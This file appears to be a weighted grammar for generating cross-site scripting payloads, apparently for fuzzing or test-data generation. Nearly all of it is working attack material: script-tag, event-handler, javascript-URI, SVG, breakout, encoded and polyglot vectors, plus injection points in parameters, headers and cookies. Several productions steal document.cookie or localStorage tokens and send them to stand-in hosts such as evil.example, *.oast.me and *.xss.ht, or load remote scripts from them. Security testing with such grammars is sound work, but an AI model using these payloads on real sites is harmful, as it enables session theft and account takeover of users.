# Cross-site scripting: tags, event handlers, URI schemes, attribute and
# script-context breakouts, encodings inside the payload, polyglots.

technique = [4] "script_tag" | [5] "event_handler" | [2] "js_uri" | [2] "svg_vector"
	| [3] "attr_breakout" | [1] "polyglot" | [2] "js_context" | [1] "encoded_js"
	| [1] "iframe_vector" | [1] "css_vector" ;
place = [6] "param" | [3] "query" | [3] "body" | [1] "header" | [1] "cookie" | [1] "path" ;
target = [6] "text" | [1] "url" | [1] "any" ;
encode = [6] "none" | [4] "raw" | [3] "pct" | [1] "double" | [2] "mixed" | [1] "unicode"
	| [1] "html" | [1] "full" ;
param = "q" | "search" | "name" | "comment" | "message" | "redirect" | "callback"
	| "title" | "bio" | "returnUrl" | "next" | "lang" | "ref" ;
header = "Referer" | "User-Agent" | "X-Forwarded-Host" | "Origin" ;
cookie = "lang" | "theme" | "last_search" | "ref" ;

sp = [5] " " | "/" | "\t" | "\n" | "\x0c" | "  " ;
q = [3] "\"" | "'" | "" | "`" ;
action = "alert(" arg ")" | "alert`" arg "`" | "prompt(" arg ")" | "confirm(" arg ")"
	| "print()" | "eval(atob('" b64js "'))" | "fetch('//" host "/'+document.cookie)"
	| "new Image().src='//" host "/?c='+document.cookie"
	| "document.location='http://" host "/c?'+document.cookie" | "top['al'+'ert'](" arg ")"
	| "window['ale'+'rt'](" arg ")" | "(alert)(" arg ")" | "self[atob('YWxlcnQ=')](" arg ")"
	| "import('//" host "/x.js')" | "navigator.sendBeacon('//" host "',localStorage.token)"
	| "setTimeout('alert(" arg ")')" | "[].constructor.constructor('alert(" arg ")')()"
	| "location=name" | "top.location.href='//" host "'" | "Function('ale'+'rt(1)')()" ;
arg = "1" | "document.domain" | "document.cookie" | "'XSS'" | "/xss/" | "origin" | @int ;
host = @word ".oast.me" | "evil.example" | @word ".xss.ht" | @ip4 ":" @int(1024,9999) ;
b64js = "YWxlcnQoMSk=" | "YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ==" | "ZmV0Y2goJy8vZXZpbC5leGFtcGxlJyk=" ;

script_tag = i"<script>" action i"</script>" | i"<script" sp i"src=" q "//" host "/x.js" q i"></script>"
	| i"<ScRiPt>" action i"</sCrIpT>" | i"<script>" action "//" | i"<scr<script>ipt>" action i"</scr</script>ipt>"
	| i"<script type=module>" action i"</script>" | i"<script>/*" @word "*/" action i"</script>" ;
event_handler = "<" tag sp attrs? event "=" q action q sp0 ">" | "<" tag sp event "=" action ">"
	| i"<img src=x onerror=" action ">" | i"<body onload=" action ">" | i"<input autofocus onfocus=" action ">"
	| i"<details open ontoggle=" action ">" | i"<video><source onerror=" q action q ">"
	| i"<marquee onstart=" action ">" | i"<select autofocus onfocus=" action ">" ;
sp0 = [3] "" | " " ;
tag = i"img" | i"svg" | i"body" | i"div" | i"a" | i"input" | i"iframe" | i"video" | i"audio"
	| i"details" | i"marquee" | i"x" | i"math" | i"button" | i"form" | i"style" | i"object" ;
attrs = i"src=x " | i"href=# " | i"autofocus " | i"tabindex=1 " | i"style=display:block " | i"id=x " ;
event = i"onerror" | i"onload" | i"onmouseover" | i"onfocus" | i"onclick" | i"onanimationstart"
	| i"ontoggle" | i"onpointerenter" | i"onbegin" | i"onauxclick" | i"onwheel" | i"onpageshow" ;
js_uri = i"javascript:" action | i"JaVaScRiPt:" action | i"java\tscript:" action | i"javascript:/*--></title></style></textarea></script>*/" action
	| i"<a href=" q i"javascript:" action q ">" @word "</a>" | "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
	| i"vbscript:msgbox(1)" | "&#106;avascript:" action | "javascript&colon;" action | "jav&#x09;ascript:" action ;
svg_vector = i"<svg onload=" action ">" | i"<svg/onload=" action ">" | i"<svg><script>" action i"</script></svg>"
	| i"<svg><animate onbegin=" action " attributeName=x dur=1s>"
	| i"<svg><a><animate attributeName=href values=javascript:" action " /><text x=20 y=20>x</text></a></svg>"
	| i"<math><mtext><table><mglyph><style><img src=x onerror=" action ">" ;
attr_breakout = q ">" event_handler | q sp event "=" q action | q "><" tag sp event "=" action ">"
	| q " autofocus onfocus=" action " x=" q | "\"><script>" action "</script>"
	| "'-" action "-'" | "</title>" script_tag | "</textarea>" event_handler | "--><!--" event_handler ;
js_context = "';" action ";//" | "\";" action ";//" | "'-" action "-'" | "\\';" action "//"
	| "</script>" script_tag | "${" action "}" | "`+" action "+`" | "{{constructor.constructor('" action "')()}}" ;
polyglot = "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//\r\n\r\n//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
	| "'\"--></style></script><svg onload=" action ">" | "\"'><img src=x onerror=" action "><\"'" ;
encoded_js = "<img src=x onerror=\"" i"eval(String.fromCharCode(" @int(60,120) "," @int(60,120) "," @int(60,120) "))\">"
	| "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>" | "<svg onload=\\u0061lert(1)>"
	| "<img src=x onerror=\"\\x61lert(1)\">" | "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:" action "\">x</a>"
	| "<script>eval('\\x61\\x6c\\x65\\x72\\x74(1)')</script>" | "<img src=x onerror=eval(atob('" b64js "'))>" ;
iframe_vector = i"<iframe src=" q i"javascript:" action q ">" | i"<iframe srcdoc=\"<script>" action "</script>\">"
	| i"<iframe src=//" host "></iframe>" | i"<object data=" q i"javascript:" action q ">" | i"<embed src=//" host "/x.swf>" ;
css_vector = i"<style>@import'//" host "/x.css';</style>" | i"<div style=\"background:url(javascript:" action ")\">"
	| i"<style>*{x:expression(" action ")}</style>" | i"<link rel=stylesheet href=//" host "/x.css>"
	| i"<style onload=" action "></style>" ;
